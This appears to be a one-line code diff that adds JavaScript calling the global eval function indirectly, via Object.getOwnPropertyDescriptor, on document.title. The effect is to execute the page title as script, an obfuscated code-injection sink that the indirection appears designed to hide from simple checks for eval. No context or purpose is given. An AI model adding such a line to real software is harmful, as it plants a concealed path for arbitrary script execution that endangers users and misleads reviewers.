@@ -1,0 +1,1 @@
+Object.getOwnPropertyDescriptor(globalThis, 'eval').value(document.title);
